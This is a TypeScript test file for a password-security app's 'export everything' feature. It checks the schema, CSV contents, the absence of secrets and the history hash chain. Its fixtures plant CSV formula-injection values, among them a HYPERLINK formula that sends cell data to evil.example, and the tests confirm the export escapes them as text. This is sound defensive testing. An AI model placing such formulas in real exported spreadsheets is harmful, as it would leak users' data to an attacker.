import Ajv2020 from 'ajv/dist/2020';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import {
  EXPORT_FILES,
  lockstepExportSchema,
  type LockstepExport,
} from '../../../common/domain/dataSafety/exportFormat';
import { FORMULA_START } from '../../../common/domain/spreadsheet';
import type { ImportPreview } from '../../../common/ipc/contract';
import { RecordingPlatform } from '../../platform/recorder';
import { FakeClock } from '../../testing/fakeClock';
import { KEY_FILE } from '../passwordHealth/keyStore';
import { AppHost } from './host';

const hosts: AppHost[] = [];
afterEach(async () => {
  while (hosts.length) await hosts.pop()!.close();
});

/** Values a spreadsheet would run as formulas, planted where an import puts text. */
const PLANTED = {
  name: '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
  plus: '+1 (555) 0100 shop',
  minus: '-2+3 Savings',
  at: '@SUM(1+1)',
  tab: '\tTabbed',
  cr: '\rReturned',
};
const PASSWORDS = ['Kestrel-88-Quiet-Harbour', 'Osprey!Window7', 'Kestrel-88-Quiet-Harbour', 'hunter2'];

function plantedExport(): string {
  const rows = [
    {
      name: PLANTED.name,
      url: 'https://evil.example/login',
      username: PLANTED.at,
      password: PASSWORDS[0],
      note: PLANTED.tab,
    },
    {
      name: PLANTED.plus,
      url: 'https://shop.example/',
      username: PLANTED.minus,
      password: PASSWORDS[1],
      note: PLANTED.cr,
    },
    { name: 'Bank', url: 'https://bank.example/', username: '=1+1', password: PASSWORDS[2], note: '@note' },
    {
      name: '-Minus site',
      url: 'https://minus.example/',
      username: '+plus',
      password: PASSWORDS[3],
      note: '-',
    },
  ];
  const path = join(mkdtempSync(join(tmpdir(), 'lockstep-planted-')), 'chrome.csv');
  writeFileSync(path, Papa.unparse(rows, { columns: ['name', 'url', 'username', 'password', 'note'] }));
  return path;
}

async function exported() {
  const dataDir = mkdtempSync(join(tmpdir(), 'lockstep-export-'));
  const host = new AppHost({
    dataDir,
    platform: new RecordingPlatform(),
    clock: new FakeClock('2026-05-03T10:00:00Z'),
    version: '1.2.3',
  });
  hosts.push(host);
  const core = host.core();
  const preview: ImportPreview = core.imports.preview({
    source: { fileToken: core.files.grant(plantedExport()).token },
    personId: 1,
  });
  await core.imports.confirm({ sessionId: preview.sessionId });
  core.inventory.addEmail({ personId: 1, address: 'ann@example.com' });
  const folder = join(mkdtempSync(join(tmpdir(), 'lockstep-export-out-')), 'export');
  const outcome = (await host.exportAll(folder))!;
  return { dataDir, folder, outcome, core, host };
}

const readCsv = (path: string) => {
  const text = readFileSync(path, 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

describe('export everything', () => {
  it('writes the JSON with its schema and one CSV per list', async () => {
    const { folder, outcome } = await exported();
    expect(readdirSync(folder).sort()).toEqual(Object.values(EXPORT_FILES).sort());
    expect(outcome.files).toHaveLength(7);
    const data = JSON.parse(readFileSync(join(folder, EXPORT_FILES.json), 'utf8')) as LockstepExport;
    expect(data).toMatchObject({ format: 'lockstep-export', version: 1, app: { version: '1.2.3' } });
    expect(data.accounts.map((a) => a.service)).toEqual(expect.arrayContaining([PLANTED.name, 'Bank']));
    expect(data.emailAddresses).toEqual([expect.objectContaining({ address: 'ann@example.com' })]);
    // The JSON matches its own definition, and the JSON Schema written beside it, checked by a
    // separate validator.
    expect(lockstepExportSchema.safeParse(data).success).toBe(true);
    const schema = JSON.parse(readFileSync(join(folder, EXPORT_FILES.schema), 'utf8')) as object;
    const validate = new Ajv2020({ strict: false }).compile(schema);
    expect(validate(data), JSON.stringify(validate.errors)).toBe(true);
    // And the schema is not a rubber stamp.
    expect(validate({ ...data, accounts: [{ ...data.accounts[0], password: 'x' }] })).toBe(false);
    expect(validate({ ...data, version: 2 })).toBe(false);
  }, 60_000);

  it('keeps an office: groups and roles, who owns and who does each task, checklists', async () => {
    const { host, core } = await exported();
    core.inventory.updatePerson({ id: 1, group: 'Front desk', role: 'Manager' });
    const tom = core.inventory.createPerson({ name: 'Tom' });
    const task = core.tasks.list().find((t) => t.accountId !== null)!;
    core.tasks.assign({ ids: [task.id], assignee: { helper: 'Sam (IT)' } });
    const checklist = core.guideRuns.startChecklist({
      guideId: 'small-business-baseline',
      personIds: [1, tom.id],
    });
    const folder = join(mkdtempSync(join(tmpdir(), 'lockstep-export-office-')), 'export');
    await host.exportAll(folder);
    const data = JSON.parse(readFileSync(join(folder, EXPORT_FILES.json), 'utf8')) as LockstepExport;
    expect(lockstepExportSchema.safeParse(data).success).toBe(true);
    expect(data.people[0]).toMatchObject({ group: 'Front desk', role: 'Manager' });
    expect(data.tasks.find((t) => t.id === task.id)).toMatchObject({
      ownerPersonId: 1,
      assigneeHelper: 'Sam (IT)',
      assigneePersonId: null,
    });
    expect(data.checklists).toEqual([
      expect.objectContaining({ id: checklist.id, guideId: 'small-business-baseline' }),
    ]);
    expect(
      data.guideRuns
        .filter((r) => r.checklistId === checklist.id)
        .map((r) => r.personId)
        .sort(),
    ).toEqual([1, tom.id].sort());
    const people = readCsv(join(folder, EXPORT_FILES.people));
    expect(people[0]!.slice(0, 4)).toEqual(['id', 'name', 'group', 'role']);
    expect(people[1]!.slice(2, 4)).toEqual(['Front desk', 'Manager']);
    const tasks = readCsv(join(folder, EXPORT_FILES.tasks));
    const column = (name: string) => tasks[0]!.indexOf(name);
    const row = tasks.find((r) => r[0] === String(task.id))!;
    expect([row[column('owner')], row[column('assignee')]]).toEqual([data.people[0]!.name, 'Sam (IT)']);
  }, 60_000);

  it('neutralises every CSV cell a spreadsheet would run as a formula', async () => {
    const { folder } = await exported();
    let cells = 0;
    for (const name of [
      EXPORT_FILES.people,
      EXPORT_FILES.accounts,
      EXPORT_FILES.findings,
      EXPORT_FILES.tasks,
      EXPORT_FILES.history,
    ]) {
      for (const row of readCsv(join(folder, name))) {
        for (const cell of row) {
          cells += 1;
          expect(FORMULA_START.test(cell), `${name}: ${JSON.stringify(cell)}`).toBe(false);
        }
      }
    }
    expect(cells).toBeGreaterThan(100);
    const accounts = readCsv(join(folder, EXPORT_FILES.accounts)).flat();
    // The planted values arrived, written as text.
    expect(accounts).toContain(`'${PLANTED.name}`);
    expect(accounts).toContain(`'${PLANTED.at}`);
    expect(accounts).toContain(`'${PLANTED.minus}`);
    expect(accounts).toContain(`'=1+1`);
    expect(accounts.some((cell) => cell.startsWith(`'+1 (555)`))).toBe(true);
  }, 60_000);

  it('holds no password, secret or fingerprint', async () => {
    const { dataDir, folder, core } = await exported();
    const key = readFileSync(join(dataDir, KEY_FILE));
    const fingerprints = (
      core.readDb.prepare('SELECT exact_fingerprint, similar_fingerprint FROM password_signals').all() as {
        exact_fingerprint: string;
        similar_fingerprint: string | null;
      }[]
    ).flatMap((s) => [s.exact_fingerprint, s.similar_fingerprint].filter((f): f is string => f !== null));
    expect(fingerprints.length).toBeGreaterThan(0);
    const reused = core.checks.list().find((f) => f.kind === 'password_reused');
    expect(reused).toBeDefined();
    for (const name of readdirSync(folder)) {
      const text = readFileSync(join(folder, name), 'utf8');
      for (const password of PASSWORDS) expect(text, name).not.toContain(password);
      for (const secret of [key.toString('hex'), key.toString('base64')]) expect(text).not.toContain(secret);
      for (const fingerprint of fingerprints) {
        expect(text, name).not.toContain(fingerprint);
        expect(text, name).not.toContain(fingerprint.slice(0, 16));
      }
    }
    // Reuse is still told, by a number local to the export.
    const data = JSON.parse(readFileSync(join(folder, EXPORT_FILES.json), 'utf8')) as LockstepExport;
    const groups = data.passwordSignals.map((s) => s.reuseGroup).filter((g) => g !== null);
    expect(groups).toEqual([1, 1]);
    expect(data.findings.find((f) => f.kind === 'password_reused')).toMatchObject({
      subject: 'group:1',
      evidence: { groupId: '1' },
    });
  }, 60_000);

  it('includes the history with its hashes, so the chain can be checked without Lockstep', async () => {
    const { folder } = await exported();
    const { history } = JSON.parse(readFileSync(join(folder, EXPORT_FILES.json), 'utf8')) as LockstepExport;
    expect(history.verifies).toBe(true);
    expect(history.entries.length).toBeGreaterThan(5);
    // An independent check, from the recipe written in the export.
    let previous = '0'.repeat(64);
    for (const [index, e] of history.entries.entries()) {
      expect(e.seq).toBe(index + 1);
      expect(e.prevHash).toBe(previous);
      const canonical = JSON.stringify([
        1,
        e.seq,
        e.at,
        e.actor,
        e.subjectType,
        e.subjectId,
        e.action,
        e.from,
        e.to,
        e.note,
      ]);
      expect(createHash('sha256').update(`${e.prevHash}\n${canonical}`, 'utf8').digest('hex')).toBe(e.hash);
      previous = e.hash;
    }
    expect(history.head).toEqual({ count: history.entries.length, hash: previous });
    const csv = readCsv(join(folder, EXPORT_FILES.history));
    expect(csv[0]).toEqual([
      'seq',
      'at',
      'actor',
      'subjectType',
      'subjectId',
      'action',
      'from',
      'to',
      'note',
      'prevHash',
      'hash',
    ]);
    expect(csv.slice(1).map((row) => row[10])).toEqual(history.entries.map((e) => e.hash));
  }, 60_000);
});
